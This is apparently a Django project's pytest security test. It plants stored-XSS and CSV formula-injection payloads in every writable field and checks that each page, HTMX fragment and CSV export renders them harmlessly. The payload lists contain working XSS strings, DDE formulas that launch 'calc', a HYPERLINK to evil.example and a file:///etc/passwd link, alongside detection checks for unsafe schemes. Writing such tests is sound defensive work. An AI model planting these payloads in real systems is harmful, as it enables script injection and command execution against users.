"""Stored XSS and CSV formula injection: a corpus of payloads written into every writable text
field, then every page, fragment and CSV export that shows them rendered and inspected.

The API's fields come from its OpenAPI schema (request bodies of every POST/PATCH), so a new
text field is attacked without editing this file; an operation with text fields that this
file does not know how to call fails the test and says what to add to ``WRITERS``. Fields only
the HTML forms write (names on the profile, token names, webhooks, the public feedback form)
go through those forms; reference data only admins enter (team, category and relationship
type names) is written as the Django admin would, straight to the database.

Every rendered page must show the payloads as text: no injected element or event handler, no
unescaped payload, every link ``http(s):``, ``mailto:``, ``/``, ``#`` or relative. Link
fields accept only http(s). CSV cells a spreadsheet would run as a formula are neutralised.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import secrets
import time
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.cache import cache
from django.db.models import Model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from accounts.models import ApiToken, Team
from accounts.tokens import token_create
from plans.tests.factories import InitiativeFactory, ObjectiveFactory, PlanFactory
from relationships.models import Relationship
from reviews.models import FeedbackRequest, FeedbackResponse, Review, hash_nonce
from reviews.services import feedback_token
from stakeholders.models import Category, Stakeholder
from tests.factories import (
    TEST_PASSWORD,
    ContactFactory,
    RelationshipFactory,
    RelationshipTypeFactory,
    StakeholderFactory,
    UserFactory,
    ValueFactory,
)
from tests.security.every_route import World, build_world, iter_urls
from webhooks.models import WebhookEndpoint

pytestmark = pytest.mark.django_db

# --- The corpus -------------------------------------------------------------------------
# "{m}" is replaced by a marker naming the field ("zq007"), so a finding names its source.

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('{m}')</script>",
    "img-onerror": "\"><img src=x onerror=alert('{m}')>",
    "javascript-url": "javascript:alert('{m}')",
    "svg-onload": "<svg/onload=alert('{m}')>",
    "template": "{m}{{{{7*7}}}}{{% now 'Y' %}}",
    "textarea-breakout": "</textarea><script>alert('{m}')</script>",
    "attribute-breakout": "' onmouseover='alert(\"{m}\")' x='",
    "rtl-override": "\u202e{m}\u200bgpj.exe",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== {m}",
    "anchor": "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "style-block": "<style>body{{display:none}}</style>{m}",
    "iframe": '<iframe src="data:text/html,x"></iframe>{m}',
    "formula-equals": '=HYPERLINK("http://evil.example/?{m}","Open")',
    "formula-plus": "+1+cmd|' /C calc'!A0 {m}",
    "formula-minus": "-2+3+cmd|' /C calc'!A0 {m}",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "nul-byte": "{m}\x00after",
}
# Fields shown as links: only http(s) may be stored.
LINK_REFUSED: dict[str, str] = {
    "javascript": "javascript:alert('{m}')",
    "javascript-mixed-case": "JaVaScRiPt:alert('{m}')",
    "javascript-leading-space": " javascript:alert('{m}')",
    "javascript-tab": "java\tscript:alert('{m}')",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "vbscript": "vbscript:msgbox('{m}')",
    "ftp": "ftp://files.example/{m}",
    "file": "file:///etc/passwd#{m}",
}
LINK_ALLOWED: dict[str, str] = {
    "https-with-markup": 'https://ok.example/{m}?q="><script>alert(1)</script>',
    "http-with-quote": "http://ok.example/{m}'onmouseover='alert(1)",
}
EMAIL_PAYLOADS: dict[str, str] = {
    "quoted-local-part": "\"<script>alert('{m}')</script>\"@example.org",
    "plain": "{m}@example.org",
}
# Payloads a field may refuse (length, NUL) but must never store unescaped; NUL must be refused.
MUST_REFUSE = {"nul-byte"}
FORMULA_FIRST_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")

# What an unescaped payload would leave in a page, whatever the field.
RAW_FRAGMENTS = (
    "<script>alert(",
    "<img src=x onerror",
    "<svg/onload",
    "</textarea><script>",
    "<iframe",
    "<style>body{display:none}",
    '<a href="javascript:',
    "onmouseover='alert",
)
SAFE_SCHEMES = ("http", "https", "mailto")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "hx-get",
    "hx-post",
    "xlink:href",
    "poster",
}
NEVER_OURS = {"iframe", "object", "embed", "base", "frame"}


# --- Which API fields: from the OpenAPI schema ---------------------------------------------


@dataclass(frozen=True)
class TextField:
    method: str
    path: str  # as in the schema: /api/v1/stakeholders/{id}/
    name: str  # dotted for nested objects: follow_up.description
    kind: str  # text | link | email

    def __str__(self) -> str:
        return f"{self.method.upper()} {self.path} {self.name}"


# Request fields that are credentials, not stored data.
NOT_STORED = {("post", "/api/v1/auth/token/"): {"username", "password", "otp"}}
_TEXT_FORMATS = {None: "text", "uri": "link", "email": "email"}


def api_text_fields() -> list[TextField]:
    schema = SchemaGenerator().get_schema(request=None, public=True)
    components = schema["components"]["schemas"]

    def resolve(node: dict) -> dict:
        while True:
            if "$ref" in node:
                node = components[node["$ref"].rsplit("/", 1)[1]]
            elif "allOf" in node:
                node = node["allOf"][0]
            elif "oneOf" in node or "anyOf" in node:
                # "a URL, or blank": the first branch says what the value is.
                node = (node.get("oneOf") or node["anyOf"])[0]
            else:
                return node

    unclassified = []

    def walk(method: str, path: str, node: dict, prefix: str) -> list[TextField]:
        found = []
        for name, prop in resolve(node).get("properties", {}).items():
            prop = resolve(prop)
            if prop.get("readOnly") or name in NOT_STORED.get((method, path), ()):
                continue
            kind = prop.get("type")
            if kind == "object" or "properties" in prop:
                found += walk(method, path, prop, f"{prefix}{name}.")
            elif kind == "string" and "enum" not in prop:
                text_kind = _TEXT_FORMATS.get(prop.get("format"))
                if text_kind:  # not a date, a decimal or an id
                    found.append(TextField(method, path, prefix + name, text_kind))
            elif kind == "array" and resolve(prop.get("items", {})).get("type") == "string":
                if "enum" not in resolve(prop["items"]):
                    unclassified.append(f"{method} {path} {prefix}{name} (a list of text)")
            elif kind not in ("integer", "number", "boolean", "array", "string"):
                unclassified.append(f"{method} {path} {prefix}{name}: {prop}")
        return found

    fields = []
    for path, operations in schema["paths"].items():
        for method in ("post", "patch", "put"):
            body = (operations.get(method) or {}).get("requestBody")
            if body:
                json_body = body["content"]["application/json"]["schema"]
                fields += walk(method, path, json_body, "")
    assert not unclassified, f"teach api_text_fields() these request fields: {unclassified}"
    return fields


# --- How to call each writing operation ---------------------------------------------------


@dataclass
class Host:
    """The records the payload-carrying records hang on, so their pages show them all."""

    admin: Model
    manager: Model
    team: Model
    stakeholder: Model
    contact: Model
    relationship: Model
    objective: Model
    plan: Model
    serial: itertools.count = field(default_factory=itertools.count)

    def unique(self, label: str) -> str:
        return f"{label} {next(self.serial)}"

    def new_relationship(self, **fields) -> int:
        defaults = {
            "stakeholder": self.stakeholder,
            "team": self.team,
            "manager": self.manager,
            "type": self.relationship.type,
            "stage": "build",
        }
        return RelationshipFactory(**{**defaults, **fields}).pk


@dataclass
class Writer:
    body: Callable[[Host], dict]
    target: Callable[[Host], int] | None = None  # the {id} of a detail operation
    anonymous: bool = False  # auth/token: credentials in the body
    # Text fields the create operation writes too: its update is attacked with links only.
    update_of: str | None = None


def _today() -> str:
    return timezone.localdate().isoformat()


def _open_review(host: Host) -> int:
    relationship = Relationship.objects.get(pk=host.new_relationship())
    return Review.objects.get(relationship=relationship, status=Review.Status.SCHEDULED).pk


RATINGS = {"trust": 4, "communication": 4, "value_to_us": 3, "value_to_them": 4, "overall": 4}

WRITERS: dict[tuple[str, str], Writer] = {
    ("post", "/api/v1/stakeholders/"): Writer(
        lambda h: {"name": h.unique("Stakeholder"), "allow_duplicate": True}
    ),
    ("patch", "/api/v1/stakeholders/{id}/"): Writer(
        lambda h: {"version": 1},
        target=lambda h: StakeholderFactory().pk,
        update_of="/api/v1/stakeholders/",
    ),
    ("post", "/api/v1/contacts/"): Writer(
        lambda h: {"name": h.unique("Contact"), "stakeholder": h.stakeholder.pk}
    ),
    ("patch", "/api/v1/contacts/{id}/"): Writer(
        lambda h: {"version": 1},
        target=lambda h: ContactFactory(stakeholder=h.stakeholder).pk,
        update_of="/api/v1/contacts/",
    ),
    ("post", "/api/v1/values/"): Writer(lambda h: {"name": h.unique("Value")}),
    ("patch", "/api/v1/values/{id}/"): Writer(
        lambda h: {}, target=lambda h: ValueFactory().pk, update_of="/api/v1/values/"
    ),
    ("post", "/api/v1/assessments/"): Writer(
        lambda h: {"stakeholder": h.stakeholder.pk, "power": 3, "interest": 4}
    ),
    ("post", "/api/v1/relationships/"): Writer(
        lambda h: {"stakeholder": h.stakeholder.pk, "team": h.team.pk}
    ),
    ("patch", "/api/v1/relationships/{id}/"): Writer(
        lambda h: {"version": 1}, target=Host.new_relationship, update_of="/api/v1/relationships/"
    ),
    ("post", "/api/v1/relationships/{id}/rating/"): Writer(
        lambda h: {"rating": 4}, target=Host.new_relationship
    ),
    ("post", "/api/v1/relationships/{id}/transition/"): Writer(
        lambda h: {"to_stage": "ended"}, target=Host.new_relationship
    ),
    ("post", "/api/v1/interactions/"): Writer(
        lambda h: {
            "relationship": h.relationship.pk,
            "occurred_on": _today(),
            "channel": "meeting",
            "summary": "Met",
        }
    ),
    ("post", "/api/v1/commitments/"): Writer(
        lambda h: {"relationship": h.relationship.pk, "direction": "ours", "description": "Do"}
    ),
    ("post", "/api/v1/value-records/"): Writer(
        lambda h: {
            "relationship": h.relationship.pk,
            "recorded_on": _today(),
            "kind": "revenue",
            "amount": "10.00",
            "unit": "GBP",
        }
    ),
    ("post", "/api/v1/objectives/"): Writer(
        lambda h: {
            "level": h.objective.level_id,
            "title": h.unique("Objective"),
            "kpi_name": "Partners",
            "kpi_target": "10",
        }
    ),
    ("patch", "/api/v1/objectives/{id}/"): Writer(
        lambda h: {},
        target=lambda h: ObjectiveFactory(owner=h.manager).pk,
        update_of="/api/v1/objectives/",
    ),
    ("post", "/api/v1/objectives/{id}/measurements/"): Writer(
        lambda h: {"measured_on": _today(), "value": "3"}, target=lambda h: h.objective.pk
    ),
    ("post", "/api/v1/plans/"): Writer(lambda h: {"title": h.unique("Plan"), "period": "FY27"}),
    ("patch", "/api/v1/plans/{id}/"): Writer(
        lambda h: {}, target=lambda h: PlanFactory(owner=h.manager).pk, update_of="/api/v1/plans/"
    ),
    ("post", "/api/v1/initiatives/"): Writer(
        lambda h: {"plan": h.plan.pk, "title": h.unique("Initiative")}
    ),
    ("patch", "/api/v1/initiatives/{id}/"): Writer(
        lambda h: {},
        target=lambda h: InitiativeFactory(plan=h.plan, owner=h.manager).pk,
        update_of="/api/v1/initiatives/",
    ),
    ("post", "/api/v1/reviews/{id}/complete/"): Writer(
        lambda h: {**RATINGS, "decision": "grow"}, target=_open_review
    ),
    ("post", "/api/v1/feedback-requests/"): Writer(
        lambda h: {"relationship": h.relationship.pk, "contact": h.contact.pk}
    ),
    ("post", "/api/v1/auth/token/"): Writer(
        lambda h: {"username": h.manager.username, "password": TEST_PASSWORD}, anonymous=True
    ),
}


def _set(body: dict, dotted: str, value: str) -> dict:
    *parents, last = dotted.split(".")
    node = body
    for name in parents:
        node = node.setdefault(name, {})
    node[last] = value
    return body


# --- Inspecting what was rendered ---------------------------------------------------------


class PageInspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links = 0

    def handle_starttag(self, tag, attrs):
        if tag in NEVER_OURS:
            self.problems.append(f"an injected <{tag}>")
        if tag == "script" and not any(name == "src" for name, _ in attrs):
            self.problems.append("an inline <script>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"an event handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                self.links += 1
                if not safe_url(value):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def safe_url(value: str) -> bool:
    """http(s), mailto, a path, a fragment or a relative reference; never javascript: etc."""
    # Browsers drop ASCII whitespace and control characters before reading the scheme.
    compact = re.sub(r"[\x00-\x20]", "", value)
    scheme = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return scheme is None or scheme.group(1).lower() in SAFE_SCHEMES


def page_problems(html: str, markers: dict[str, TextField | str]) -> list[str]:
    inspector = PageInspector()
    inspector.feed(html)
    problems = list(inspector.problems)
    problems += [f"the raw fragment {f!r}" for f in RAW_FRAGMENTS if f in html]
    problems += [
        f"an evaluated template payload ({marker}49)" for marker in markers if f"{marker}49" in html
    ]
    return problems


def csv_problems(content: str) -> list[str]:
    problems = []
    for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))):
        for cell in row:
            if cell.startswith(FORMULA_FIRST_CHARACTERS) and not _is_number(cell):
                problems.append(f"a formula cell {cell!r}")
    return problems


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- The test -----------------------------------------------------------------------------


@dataclass
class Ledger:
    """What was tried, stored and refused, per field: the test's report."""

    markers: dict[str, TextField | str] = field(default_factory=dict)
    outcomes: dict[str, Counter] = field(default_factory=lambda: defaultdict(Counter))
    problems: list[str] = field(default_factory=list)

    def marker(self, source: TextField | str) -> str:
        for marker, known in self.markers.items():
            if known == source:
                return marker
        marker = f"zq{len(self.markers):03d}"
        self.markers[marker] = source
        return marker


@pytest.fixture
def host(admin_user, manager_a, team_a) -> Host:
    stakeholder = StakeholderFactory(name="Host Organisation")
    relationship = RelationshipFactory(
        stakeholder=stakeholder,
        type=RelationshipTypeFactory(),
        team=team_a,
        manager=manager_a,
        stage="build",
    )
    return Host(
        admin=admin_user,
        manager=manager_a,
        team=team_a,
        stakeholder=stakeholder,
        contact=ContactFactory(stakeholder=stakeholder, email="host@example.org"),
        relationship=relationship,
        objective=ObjectiveFactory(owner=manager_a, kpi_name="Partners", kpi_target=10),
        plan=PlanFactory(owner=manager_a),
    )


def write_through_api(host: Host, ledger: Ledger) -> None:
    fields = api_text_fields()
    unknown = sorted({(f.method, f.path) for f in fields} - set(WRITERS))
    assert not unknown, (
        "These API operations take text but tests/security/test_xss.py cannot call them; add "
        f"them to WRITERS: {unknown}"
    )
    created_text = {(f.path, f.name) for f in fields if f.method == "post"}
    api = APIClient(raise_request_exception=False)
    _, raw = token_create(user=host.admin, name="xss corpus", scope="write")
    for text_field in fields:
        writer = WRITERS[(text_field.method, text_field.path)]
        corpus = {"text": PAYLOADS, "link": {**LINK_REFUSED, **LINK_ALLOWED}}.get(
            text_field.kind, EMAIL_PAYLOADS
        )
        covered = writer.update_of and (writer.update_of, text_field.name) in created_text
        if covered and text_field.kind == "text":
            continue  # stored by the create operation already; links are checked on both
        marker = ledger.marker(text_field)
        for name, template in corpus.items():
            value = template.format(m=marker)
            body = _set(writer.body(host), text_field.name, value)
            url = text_field.path
            if writer.target:
                url = url.replace("{id}", str(writer.target(host)))
            if writer.anonymous:
                cache.clear()  # the sign-in throttle would refuse the corpus after ten
                api.credentials()
            else:
                api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
            response = getattr(api, text_field.method)(url, body, format="json")
            record(ledger, text_field, name, response, field_key=text_field.name.split(".")[-1])


def record(
    ledger: Ledger, source, payload: str, response, field_key: str, stored: bool | None = None
) -> None:
    """Count one write. ``stored`` defaults to the API's answer (2xx); a form's caller checks
    the database, since forms answer 200 both to a success page and to a form with errors."""
    status = response.status_code
    if stored is None:
        stored = 200 <= status < 300
    refused = not stored and status in (200, 400)
    outcome = "stored" if stored else "refused" if refused else f"status {status}"
    ledger.outcomes[str(source)][outcome] += 1
    where = f"{source} ← {payload}"
    if outcome.startswith("status"):
        ledger.problems.append(f"{where}: answered {status} instead of storing or refusing")
    if payload in MUST_REFUSE and stored:
        ledger.problems.append(f"{where}: stored a NUL character (PostgreSQL cannot)")
    if payload in LINK_REFUSED:
        if stored:
            ledger.problems.append(f"{where}: a non-http(s) link was stored")
        elif status == 400 and response.get("Content-Type", "").startswith("application/json"):
            body = response.json()
            if field_key not in body and body.get("field") != field_key:
                ledger.problems.append(f"{where}: refused without naming the field: {body}")


def _stored(model, **fields: str) -> bool:
    # PostgreSQL cannot even compare with a NUL character: such a value was not stored.
    if any("\x00" in value for value in fields.values()):
        return False
    return model.objects.filter(**{k: v.strip() for k, v in fields.items()}).exists()


def write_through_forms(host: Host, ledger: Ledger) -> dict[str, Client]:
    """Fields only the web forms write; returns signed-in clients for the crawl."""
    admin = Client(raise_request_exception=False)
    admin.force_login(host.admin)
    manager = Client(raise_request_exception=False)
    manager.force_login(host.manager)

    # Names on the profile page: one user per payload, each managing a relationship shown in
    # the lists, the board and the dashboard.
    for source in ("profile first_name", "profile last_name"):
        marker = ledger.marker(source)
        for name, template in PAYLOADS.items():
            user = UserFactory(role="manager", teams=[host.team])
            client = Client(raise_request_exception=False)
            client.force_login(user)
            data = {"first_name": "Ann", "last_name": "Lee", "email": f"{user.username}@x.org"}
            value = data[source.split()[1]] = template.format(m=marker)
            response = client.post(reverse("profile"), data)
            user.refresh_from_db()
            saved = value.strip() in (user.first_name, user.last_name)
            record(ledger, source, name, response, "", stored=saved)
            host.new_relationship(manager=user)

    marker = ledger.marker("profile token name")
    for name, template in PAYLOADS.items():
        data = {"name": template.format(m=marker), "scope": "read", "expires_in_days": ""}
        response = admin.post(reverse("token_new"), data)
        saved = _stored(ApiToken, name=data["name"])
        record(ledger, "profile token name", name, response, "", stored=saved)

    # Webhooks (admins): a link field and a text field.
    url_marker, text_marker = ledger.marker("webhook url"), ledger.marker("webhook description")
    form = {"event_types": ["relationship.created"], "active": "on"}
    for name, template in {**LINK_REFUSED, **LINK_ALLOWED}.items():
        data = {**form, "url": template.format(m=url_marker), "description": "x"}
        response = admin.post(reverse("webhooks:create"), data)
        saved = _stored(WebhookEndpoint, url=data["url"])
        record(ledger, "webhook url", name, response, "", stored=saved)
        if name in LINK_REFUSED and response.status_code != 400:
            ledger.problems.append(f"webhook url ← {name}: not refused ({response.status_code})")
        elif name in LINK_REFUSED and "url" not in response.context["form"].errors:
            ledger.problems.append(f"webhook url ← {name}: refused without a URL field error")
    for name, template in PAYLOADS.items():
        value = template.format(m=text_marker)
        data = {**form, "url": "https://hooks.example/x", "description": value}
        response = admin.post(reverse("webhooks:create"), data)
        saved = _stored(WebhookEndpoint, description=value)
        record(ledger, "webhook description", name, response, "", stored=saved)

    # The stakeholder's own answer on the public feedback page: the least trusted input.
    marker = ledger.marker("public feedback comment")
    for name, template in PAYLOADS.items():
        nonce = secrets.token_urlsafe(8)
        request = FeedbackRequest.objects.create(
            relationship=host.relationship,
            contact=host.contact,
            sent_by=host.admin,
            expires_at=timezone.now() + timedelta(days=3),
            nonce_hash=hash_nonce(nonce),
            sent_at=timezone.now(),
        )
        cache.clear()  # the public page's rate limit
        answer = {"satisfaction": 7, "responsiveness": 4, "communication": 4, "value": 4}
        response = Client(raise_request_exception=False).post(
            reverse("feedback:answer", args=[feedback_token(request.pk, nonce)]),
            {**answer, "comment": template.format(m=marker)},
        )
        saved = FeedbackResponse.objects.filter(request=request).exists()
        record(ledger, "public feedback comment", name, response, "", stored=saved)

    # Reference data only admins enter (Django admin), written as the admin would save it.
    for label, model in (("team name", Team), ("category name", Category)):
        marker = ledger.marker(label)
        for name, template in PAYLOADS.items():
            if name in MUST_REFUSE:
                continue  # the admin's forms refuse NUL; nothing to store
            value = template.format(m=marker)[:80]
            instance = model.objects.create(name=value)
            ledger.outcomes[label]["stored"] += 1
            if model is Team:
                host.new_relationship(team=instance)
            else:
                StakeholderFactory(name=f"In {marker}", category=instance)
    marker = ledger.marker("relationship type name")
    for name, template in PAYLOADS.items():
        if name not in MUST_REFUSE:
            kind = RelationshipTypeFactory(name=template.format(m=marker)[:80])
            host.new_relationship(type=kind)
            ledger.outcomes["relationship type name"]["stored"] += 1
    return {"admin": admin, "manager": manager}


# Routes crawled for every record (each shows its own fields); the others once, on the host
# records, where the payload-carrying children (interactions, commitments …) all appear.
PER_RECORD = re.compile(r":(detail|edit|history|contact_detail|contact_edit|\w+_detail|\w+_edit)$")


def test_stored_payloads_render_as_text_everywhere(host, admin_user, manager_a, team_a):
    started = time.perf_counter()
    ledger = Ledger()
    write_through_api(host, ledger)
    clients = write_through_forms(host, ledger)
    assert not ledger.problems, "\n".join(ledger.problems)
    written = time.perf_counter()

    # The crawl: every route, filled with every record on the pages that show one record.
    base = build_world(admin_user=admin_user, manager=manager_a, team=team_a)
    world = World({key: list(values) for key, values in base.values.items()})
    for key, values in base.values.items():
        if values and isinstance(values[0], Model) and not key.startswith(("axes.", "auth.")):
            model = type(values[0])
            world.values[key] = [
                item for item in model._default_manager.all() if carries_markup(item)
            ] or values

    pages = Counter()
    problems: list[str] = []
    seen: set[tuple[str, str, str]] = set()
    queue = [("admin", url, fragment) for url, fragment in _crawl_list(world, base, ledger.markers)]
    queue += [
        ("manager", reverse(name), True) for name in ("profile", "home", "relationships:index")
    ]
    while queue:
        who, url, fragment = queue.pop()
        for variant, headers in (("page", {}), ("htmx", {"HX-Request": "true"})):
            if (who, url, variant) in seen or (variant == "htmx" and not fragment):
                continue
            seen.add((who, url, variant))
            response = clients[who].get(url, headers=headers)
            content_type = response.get("Content-Type", "")
            if response.status_code >= 500:
                problems.append(f"{url} [{variant}] answered {response.status_code}")
            if content_type.startswith("text/csv"):
                body = b"".join(response.streaming_content).decode()
                problems += [f"{url}: {p}" for p in csv_problems(body)]
                pages["csv"] += 1
                pages["csv neutralised cells"] += len(re.findall(r"(^|,)\"?'[=+\-@]", body, re.M))
                continue
            if not content_type.startswith("text/html") or response.status_code != 200:
                continue
            html = response.content.decode()
            pages[variant] += 1
            problems += [f"{url} [{variant}]: {p}" for p in page_problems(html, ledger.markers)]
            for marker in ledger.markers:
                if marker in html:
                    pages[f"shown:{marker}"] += 1
            # Follow the list pages' pagination, so records past the first page are seen.
            for link in re.findall(r'href="(\?[^"]*page=\d+[^"]*)"', html):
                next_url = urlsplit(url).path + link.replace("&amp;", "&")
                if (who, next_url, "page") not in seen:
                    queue.append((who, next_url, True))

    unseen = [str(ledger.markers[m]) for m in ledger.markers if not pages[f"shown:{m}"]]
    timings = (written - started, time.perf_counter() - written)
    report(ledger, pages, unseen, timings)
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(sorted(set(problems)))
    # The corpus must reach the pages: a field shown nowhere would test nothing.
    assert not unseen, f"payloads of these fields appeared on no page: {unseen}"
    assert pages["csv neutralised cells"] > 0, "no formula payload reached a CSV export"


def _crawl_list(world: World, base: World, markers: dict) -> list[tuple[str, bool]]:
    """(url, also as an HTMX fragment): every route on the host records, plainly and as a
    fragment; the one-record pages (detail, edit) also for every record that carries a
    markup payload, plainly (their fragments render the same fields as the host's)."""
    urls = set()
    for route, url in iter_urls(base):
        if route.namespace != "api" and route.name != "api-schema":
            # JSON has no markup (and nosniff stops browsers guessing); the admin's pages do
            # not vary with HX-Request.
            urls.add((url, route.namespace != "admin"))
    for route, url in iter_urls(world):
        if route.name and route.namespace != "admin" and PER_RECORD.search(route.name):
            urls.add((url, False))
    urls |= {(f"{reverse('search')}?q={marker}", True) for marker in markers}
    urls |= {(f"{reverse('search_palette')}?q={marker}", False) for marker in markers}
    return sorted(urls)


# The payloads that break out of a text or attribute context: the one-record pages are
# crawled for the records holding these (the lists and the host pages show all of them).
MARKUP = ("<script>", "<img src=x", "</textarea>", "' onmouseover=")


def carries_markup(instance: Model) -> bool:
    return any(
        any(m in (getattr(instance, f.attname) or "") for m in MARKUP)
        for f in instance._meta.concrete_fields
        if f.get_internal_type() in ("CharField", "TextField", "URLField", "EmailField")
    )


def report(ledger: Ledger, pages: Counter, unseen: list[str], timings: tuple) -> None:
    """What the corpus covered (shown with ``pytest -s``, or when the test fails)."""
    tried = sum(sum(c.values()) for c in ledger.outcomes.values())
    stored = sum(c["stored"] for c in ledger.outcomes.values())
    print(
        f"\nXSS corpus: {len(PAYLOADS)} text payloads, {len(LINK_REFUSED)} refused and "
        f"{len(LINK_ALLOWED)} allowed link payloads, {len(EMAIL_PAYLOADS)} e-mail payloads"
        f"\n{len(ledger.outcomes)} fields, {tried} writes: {stored} stored, "
        f"{tried - stored} refused"
        f"\nrendered {pages['page']} pages, {pages['htmx']} HTMX fragments, "
        f"{pages['csv']} CSV exports ({pages['csv neutralised cells']} formula cells "
        f"neutralised); fields shown nowhere: {unseen or 'none'}"
        f"\nwriting took {timings[0]:.0f} s, the crawl {timings[1]:.0f} s"
    )
    for source, outcome in sorted(ledger.outcomes.items()):
        print(f"  {source}: {dict(outcome)}")


# --- The checks themselves catch what they look for ------------------------------------------


@pytest.mark.parametrize(
    "name", ["script", "img-onerror", "svg-onload", "textarea-breakout", "anchor", "iframe"]
)
def test_the_page_check_catches_an_unescaped_payload(name):
    from django.utils.html import escape

    payload = PAYLOADS[name].format(m="zq999")
    assert page_problems(f"<textarea>{payload}</textarea><p>{payload}</p>", {})
    assert not page_problems(f"<textarea>{escape(payload)}</textarea><p>{escape(payload)}</p>", {})


def test_the_page_check_catches_a_breakout_from_an_attribute():
    payload = PAYLOADS["attribute-breakout"].format(m="zq999")
    assert page_problems(f"<input value='{payload}'>", {})
    assert page_problems(f'<a href="{LINK_REFUSED["javascript-tab"]}">x</a>', {})
    assert page_problems("<p>zq99949</p>", {"zq999": "a field"})


@pytest.mark.parametrize("value", ["https://a.example/", "/x/", "#top", "?page=2", "mailto:a@b.c"])
def test_safe_links_pass_the_link_check(value):
    assert safe_url(value)


@pytest.mark.parametrize("name", sorted(LINK_REFUSED))
def test_unsafe_links_fail_the_link_check(name):
    assert not safe_url(LINK_REFUSED[name].format(m="zq999"))


def test_the_csv_check_catches_a_formula_and_passes_neutralised_cells():
    assert csv_problems('a,"=HYPERLINK(""http://x"")"\r\n')
    assert csv_problems("@SUM(1)\r\n")
    assert not csv_problems("a,'=1+1,-3.5,'@x\r\n")


@pytest.mark.parametrize("name", sorted(LINK_REFUSED))
def test_the_stakeholder_form_refuses_a_website_that_is_not_http(name, manager_a):
    client = Client()
    client.force_login(manager_a)
    website = LINK_REFUSED[name].format(m="zq1")
    data = {"kind": "organisation", "name": "Northwind", "website": website}
    response = client.post(reverse("stakeholders:create"), data)
    assert response.context["form"].errors["website"] == ["Enter a valid URL."]
    assert not Stakeholder.objects.filter(name="Northwind").exists()
